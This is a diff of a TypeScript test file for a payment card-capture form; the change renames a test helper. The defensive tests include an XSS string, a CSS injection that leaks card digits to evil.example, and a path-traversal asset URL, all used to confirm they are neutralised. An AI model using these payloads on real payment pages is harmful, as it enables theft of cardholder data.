@@ -3,7 +3,7 @@
 import test from 'ava';
 import { storeCard } from '../helpers/card-calls.ts';
 import { CVV_FORM, dataOf, openForm, submitForm, TYPED } from '../helpers/form-calls.ts';
-import { openHttpRooms } from '../helpers/http-rooms.ts';
+import { openHttpApp } from '../helpers/http-app.ts';
 
 const WRONG: Readonly<Record<string, readonly string[]>> = {
 	cvv: ['maybe', '1'],
@@ -53,9 +53,9 @@ const WRONG: Readonly<Record<string, readonly string[]>> = {
 };
 
 test('a parameter that is wrong is a standard error that names it', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
-	await rooms.identity.origins.add('demo', 'https://shop.example', 'operator test');
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
+	await parts.identity.origins.add('demo', 'https://shop.example', 'operator test');
 	for (const [name, values] of Object.entries(WRONG)) {
 		for (const value of values) {
 			const { page } = await openForm(demo, { [name]: value });
@@ -67,9 +67,9 @@ test('a parameter that is wrong is a standard error that names it', async (t) =>
 });
 
 test('what is registered is accepted, and in the sandbox the machine itself', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
-	await rooms.identity.origins.add('demo', 'https://shop.example', 'operator test');
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
+	await parts.identity.origins.add('demo', 'https://shop.example', 'operator test');
 	const queries = [
 		{ success: 'https://shop.example/done?t={cardToken}', postMessageHost: 'https://shop.example/any/path' },
 		{ success: 'http://localhost:8080/done', postMessageHost: 'http://127.0.0.1:3000' },
@@ -86,16 +86,16 @@ test('what is registered is accepted, and in the sandbox the machine itself', as
 });
 
 test('in production nothing is accepted that is not registered', async (t) => {
-	const rooms = await openHttpRooms(t, 'sqlite', {});
-	const demo = await rooms.createCaller('demo');
+	const parts = await openHttpApp(t, 'sqlite', {});
+	const demo = await parts.createCaller('demo');
 	const { page } = await openForm(demo, { postMessageHost: 'https://localhost.example' });
 	t.is(page.statusCode, 400);
 });
 
 test('credentials fail as everywhere: the empty 401', async (t) => {
-	const rooms = await openHttpRooms(t);
+	const parts = await openHttpApp(t);
 	for (const query of ['', '?sessionToken=x', '?accessToken=00', '?sessionToken=']) {
-		const answer = await rooms.app.inject(`/api/payments/capturecard${query}`);
+		const answer = await parts.app.inject(`/api/payments/capturecard${query}`);
 		t.is(answer.statusCode, 401);
 		t.is(answer.body, '');
 	}
@@ -104,9 +104,9 @@ test('credentials fail as everywhere: the empty 401', async (t) => {
 const SCRIPT = '"\'><script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}`';
 
 test('a script in any parameter stays a text, or is refused', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
-	const { paths } = (await rooms.app.inject('/openapi.json')).json();
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
+	const { paths } = (await parts.app.inject('/openapi.json')).json();
 	const names: string[] = paths['/api/payments/capturecard'].get.parameters.map((each: { name: string }) => each.name);
 	t.true(names.length > 15);
 	for (const name of names.filter((each) => !each.endsWith('Token'))) {
@@ -118,8 +118,8 @@ test('a script in any parameter stays a text, or is refused', async (t) => {
 });
 
 test('a foreign style sheet changes the look of the form and nothing else', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
 	const hostile =
 		'input[value^="4"] { background: url(https://evil.example/4) } @import "https://evil.example"; </style><script>alert(1)</script> button { color: teal }';
 	const { page } = await openForm(demo, { css: hostile });
@@ -131,11 +131,11 @@ test('a foreign style sheet changes the look of the form and nothing else', asyn
 });
 
 test('the style sheet of the account is used, of its name or by default, and one of its primary account too', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
-	const clerk = await rooms.createCaller('clerk', { kind: 'sub-user', parent: 'demo' });
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
+	const clerk = await parts.createCaller('clerk', { kind: 'sub-user', parent: 'demo' });
 	const { openStyles } = await import('../../src/work/cardholders/forms/styles.ts');
-	const styles = openStyles({ ...rooms, accounts: rooms.identity.accounts });
+	const styles = openStyles({ ...parts, accounts: parts.identity.accounts });
 	await styles.set('demo', { name: 'default', css: 'p { color: red }' }, 'operator test');
 	await styles.set('demo', { name: 'spa', css: 'p { color: blue }' }, 'operator test');
 	for (const caller of [demo, clerk]) {
@@ -147,8 +147,8 @@ test('the style sheet of the account is used, of its name or by default, and one
 });
 
 test('fields are asked for as the parameters say', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
 	const usual = (await openForm(demo)).page.body;
 	for (const name of ['cardNumber', 'expiry', 'cvv', 'nameOnCard']) t.true(usual.includes(`name="${name}"`), name);
 	for (const name of ['ownerId', 'cardType']) t.false(usual.includes(`name="${name}"`), name);
@@ -167,12 +167,12 @@ test('fields are asked for as the parameters say', async (t) => {
 });
 
 test('what the parameters require is checked when the form is sent', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
-	const year = new Date(rooms.clock.now()).getUTCFullYear();
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
+	const year = new Date(parts.clock.now()).getUTCFullYear();
 	const problem = async (query: Record<string, string>, typed: Record<string, string>) => {
 		const { id } = await openForm(demo, query);
-		const answer = await submitForm(rooms, { id }, { ...TYPED, ...typed });
+		const answer = await submitForm(parts, { id }, { ...TYPED, ...typed });
 		return answer.statusCode === 200 ? 'stored' : Object.keys(answer.json().errors).join();
 	};
 	t.is(await problem({ cardTypes: 'MasterCard' }, {}), 'cardNumber');
@@ -193,41 +193,41 @@ test('what the parameters require is checked when the form is sent', async (t) =
 });
 
 test('the holder of a co-badged card chooses its brand', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
 	for (const [cardType, expected] of [
 		['Dankort', 'Dankort'],
 		['', 'Visa'],
 		['AMEX', 'Visa'],
 	] as const) {
 		const { id } = await openForm(demo);
-		const answer = await submitForm(rooms, { id }, { ...TYPED, cardNumber: '4571000000000001', cardType });
-		const found = await rooms.vault.findMetadata(demo.account.id, answer.json().cardToken);
+		const answer = await submitForm(parts, { id }, { ...TYPED, cardNumber: '4571000000000001', cardType });
+		const found = await parts.vault.findMetadata(demo.account.id, answer.json().cardToken);
 		t.is(found?.cardType, expected);
 	}
 });
 
 test('the CVV form puts a CVV to a card of the account, once', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo', { cvvRetention: true });
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo', { cvvRetention: true });
 	const cardUri = await storeCard(demo);
 	const { page, id } = await openForm(demo, { cardUri }, CVV_FORM);
 	t.is(page.statusCode, 200);
 	t.true(page.body.includes('•••• 1111'));
 	t.false(page.body.includes('name="cardNumber"'));
-	const wrong = await submitForm(rooms, { id, path: CVV_FORM }, { cvv: '1234' });
+	const wrong = await submitForm(parts, { id, path: CVV_FORM }, { cvv: '1234' });
 	t.deepEqual(Object.keys(wrong.json().errors), ['cvv']);
-	const answers = await Promise.all([1, 2].map(() => submitForm(rooms, { id, path: CVV_FORM }, { cvv: '123' })));
+	const answers = await Promise.all([1, 2].map(() => submitForm(parts, { id, path: CVV_FORM }, { cvv: '123' })));
 	for (const answer of answers) t.is(answer.json().cardToken, cardUri);
-	t.true((await rooms.vault.findMetadata(demo.account.id, cardUri as never))?.cvvEndsAt !== null);
-	t.is((await rooms.database.knex('audit').where({ action: 'cvv.store' })).length, 1);
+	t.true((await parts.vault.findMetadata(demo.account.id, cardUri as never))?.cvvEndsAt !== null);
+	t.is((await parts.database.knex('audit').where({ action: 'cvv.store' })).length, 1);
 });
 
 test('the CVV form is refused for the card of another, for no token, and without CVV retention', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo', { cvvRetention: true });
-	const other = await rooms.createCaller('other', { cvvRetention: true });
-	const plain = await rooms.createCaller('plain');
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo', { cvvRetention: true });
+	const other = await parts.createCaller('other', { cvvRetention: true });
+	const plain = await parts.createCaller('plain');
 	const cardUri = await storeCard(other);
 	t.is((await openForm(demo, { cardUri }, CVV_FORM)).page.statusCode, 401);
 	t.is((await openForm(demo, { cardUri: 'x' }, CVV_FORM)).page.statusCode, 401);
@@ -239,21 +239,21 @@ test('the CVV form is refused for the card of another, for no token, and without
 });
 
 test('assets are public, packed, and kept for ever; other addresses are not there', async (t) => {
-	const rooms = await openHttpRooms(t);
-	const demo = await rooms.createCaller('demo');
+	const parts = await openHttpApp(t);
+	const demo = await parts.createCaller('demo');
 	const [, path] = /src="(\/assets\/card-form-[0-9a-f]{16}\.js)"/.exec((await openForm(demo)).page.body)!;
-	const asset = await rooms.app.inject({ url: path, headers: { 'accept-encoding': 'gzip' } });
+	const asset = await parts.app.inject({ url: path, headers: { 'accept-encoding': 'gzip' } });
 	t.is(asset.statusCode, 200);
 	t.is(asset.headers['content-encoding'], 'gzip');
 	t.is(asset.headers['cache-control'], 'public, max-age=31536000, immutable');
 	t.is(asset.headers['cross-origin-resource-policy'], 'cross-origin');
-	t.is((await rooms.app.inject(path)).headers['content-type'], 'text/javascript; charset=utf-8');
+	t.is((await parts.app.inject(path)).headers['content-type'], 'text/javascript; charset=utf-8');
 	for (const wrong of [
 		'/assets/card-form-0000000000000000.js',
 		'/assets/..%2fpage.ts',
 		'/assets/',
 		'/assets/base.css',
 	]) {
-		t.is((await rooms.app.inject(wrong)).statusCode, 404, wrong);
+		t.is((await parts.app.inject(wrong)).statusCode, 404, wrong);
 	}
 });
